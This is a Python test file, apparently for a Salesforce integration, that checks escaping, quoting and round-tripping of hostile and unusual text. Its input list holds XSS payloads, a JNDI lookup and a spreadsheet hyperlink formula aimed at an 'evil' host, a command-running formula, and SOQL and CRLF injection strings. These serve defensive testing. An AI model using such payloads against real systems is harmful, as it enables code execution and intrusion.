"""Hostile and unusual text on its way through Salesforce: reliability.md 8.3."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cosell.core import values as normal
from cosell.core.errors import Rejected, Stale
from cosell.core.marks import audit_text, link_to, marked, unmarked
from cosell.core.records import Snapshot
from cosell.core.values import Person, Solution
from cosell.ports import Marks
from cosell.systems.salesforce.soql import encoded, http_date, literal, moment

from .salesfloor import Floor, creation, introduced, opened

TEXTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://evil}",
    "O'Neil",
    "O\\'Neil",
    "' OR Name != '",
    "100 % \\ _ \\n",
    "%27+OR+1=1",
    '=HYPERLINK("http://evil")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "CR\r\nLF: injected",
    "\x1b[31mred\x1b[0m",
    "\u202eright to left",
    "zero\u200bwidth",
    "Z\u0351\u036b\u0343algo",
    "👩‍👩‍👧‍👦 family",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "\ud800 unpaired",
    "e\u0301 decomposed",
    "no\u00a0break",
    "１２３ full width",
    "Iİıi ß",
    "한국어 中文 العربية हिन्दी",
    "0",
    "null",
    "true",
    "2026-11-21",
    "!!python/object",
    "a+b&c=d#e?f;g",
    "tab\tinside",
]


@pytest.fixture
async def floor() -> AsyncIterator[Floor]:
    async with opened() as one:
        yield one


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
async def test_text_goes_in_and_comes_out_as_its_normal_form(floor: Floor, text: str) -> None:
    """As customer, name, notes, contact and solution name; and an account is found again by it."""
    wanted = normal.text(text)
    assert isinstance(wanted, str)
    person = Person("p@x.example", wanted[:40], wanted[:80])
    values = {
        "name": wanted,
        "notes": wanted,
        "customer_name": wanted,
        "address_line": wanted,
        "city": "Ü" * 40,
    }
    made = await floor.system.create(
        creation(**values, contacts=(person,), solutions=(Solution("SOL-1-AAA", name=wanted),))
    )
    for key in ("name", "notes", "customer_name", "address_line"):
        assert made.values[key] == wanted, key
    contacts = made.values["contacts"]
    assert isinstance(contacts, tuple)
    assert contacts[0] == person
    again = await introduced(floor, creation("second-referral", **values, contacts=(person,)))
    assert again.facts["account"] == made.facts["account"]
    assert len(floor.rows("Contact")) == 1
    floor.later()
    seen = await floor.read(made.id)
    after = await floor.write(seen, name="plain", notes=None, marks=Marks((wanted,), "ok"))
    assert isinstance(after, Snapshot)
    assert await floor.system.find(wanted) == []


async def test_any_referral_id_is_stored_and_found_as_it_is(floor: Floor) -> None:
    """The id comes from the other system: it is data, also inside a query and an address."""
    made = {}
    for partner_id in map(normal.text, TEXTS):
        assert isinstance(partner_id, str)
        made[partner_id] = (await floor.system.create(creation(partner_id))).id
    for partner_id, deal in made.items():
        found = await floor.system.find(partner_id)
        assert [(one.id, one.partner_id) for one in found] == [(deal, partner_id)]


REFERENCE = "@{after.records[0].Audit__c} and @{opportunity.id}"


async def test_text_that_looks_like_a_reference_of_a_composite_stays_text(floor: Floor) -> None:
    """salesforce-api.md 7.1: `@{ref.path}` in any value is replaced, and nothing escapes it."""
    made = await floor.system.create(creation(name=REFERENCE, notes=REFERENCE))
    assert (made.values["name"], made.values["notes"]) == (REFERENCE, REFERENCE)
    floor.later()
    seen = await floor.read(made.id)
    after = await floor.write(seen, notes=f"{REFERENCE}!", deal_value=None)
    assert isinstance(after, Snapshot)
    assert (after.values["notes"], after.stamp) == (f"{REFERENCE}!", "w1")
    floor.later()
    both = await floor.write(
        await floor.read(made.id), name=REFERENCE[:80], solutions=(Solution("SOL-3-CCC"),)
    )
    assert isinstance(both, Snapshot)
    assert (both.values["name"], both.values["solutions"]) == (REFERENCE[:80], (Solution("SOL-3-CCC"),))


async def test_a_stale_write_of_such_text_is_refused_like_any_other(floor: Floor) -> None:
    deal = floor.deal()
    floor.later()
    seen = await floor.read(deal)
    floor.edit(deal, NextStep="x")
    assert isinstance(await floor.write(seen, notes=REFERENCE), Stale)


async def test_such_text_in_a_customer_contact_or_solution_holds_the_deal(floor: Floor) -> None:
    """These rows are only made together, so the text cannot be written as it is."""
    for bad in (
        {"customer_name": REFERENCE},
        {"contacts": (Person("p@x.example", "P", REFERENCE),)},
        {"solutions": (Solution("SOL-1-AAA", name=REFERENCE),)},
    ):
        with pytest.raises(Rejected) as caught:
            await floor.system.create(creation(**bad))
        assert caught.value.code == "reference_text"
    assert floor.rows("Opportunity") == []


@given(st.text(max_size=200))
def test_a_literal_never_ends_before_its_end(text: str) -> None:
    """salesforce-api.md 5: only known escapes, no bare quote, no control character."""
    quoted = literal(text)
    assert (quoted[0], quoted[-1]) == ("'", "'")
    at, inner = 0, quoted[1:-1]
    while at < len(inner):
        if inner[at] == "\\":
            assert inner[at + 1] in "\\'nrtbfu"
            at += 6 if inner[at + 1] == "u" else 2
            continue
        assert inner[at] != "'"
        assert inner[at] >= " "
        at += 1
    assert encoded(quoted).isascii()


@given(st.text(max_size=130))
def test_a_marked_name_is_unmarked_to_what_it_was(name: str) -> None:
    """The sign neither stays nor takes a part of the name with it, unless the name begins with a sign."""
    cleaned = normal.text(name)
    if not isinstance(cleaned, str) or unmarked(cleaned)[1] is not None:
        return
    for mark in ("ok", "failed"):
        stored = marked(cleaned, mark, limit=120)
        assert unmarked(stored)[0].strip() == cleaned or stored == cleaned
        assert len(stored) <= max(120, len(cleaned))


@given(st.lists(st.text(max_size=50), max_size=10), st.text(max_size=500), st.integers(0, 400))
def test_the_audit_text_is_within_its_limit_and_newest_first(
    trail: list[str], present: str, limit: int
) -> None:
    text = audit_text(trail, present, limit=limit)
    units = len(text.encode("utf-16-le", "replace")) // 2 + text.count("\n")
    assert units <= limit
    ours = [" ".join(line.split()) for line in trail]
    lines = text.split("\n") if text else []
    shown = min(len(lines), len(ours))
    assert lines[:shown] == ours[:shown]


def test_an_audit_text_written_twice_is_the_same() -> None:
    once = audit_text(["a", "b"], "others\nwords", limit=1000)
    assert audit_text(["a", "b"], once, limit=1000) == once
    assert audit_text(["c", "a", "b"], once, limit=1000).split("\n") == ["c", "a", "b", "others", "words"]


def test_a_link_quotes_the_id() -> None:
    assert link_to("https://x.example/?id={id}", 'a"><script>') == "https://x.example/?id=a%22%3E%3Cscript%3E"


@pytest.mark.parametrize(
    ("raw", "header"),
    [
        ("2026-11-20T09:15:00.000+0000", "Fri, 20 Nov 2026 09:15:00 GMT"),
        ("2026-11-20T10:15:00+01:00", "Fri, 20 Nov 2026 09:15:00 GMT"),
        ("2026-11-20T09:15:00Z", "Fri, 20 Nov 2026 09:15:00 GMT"),
        ("2028-02-29T23:59:59.999+0000", "Tue, 29 Feb 2028 23:59:59 GMT"),
    ],
)
def test_an_instant_becomes_the_header_of_the_precondition(raw: str, header: str) -> None:
    """salesforce-api.md 1 and 6.4."""
    assert http_date(moment(raw)) == header
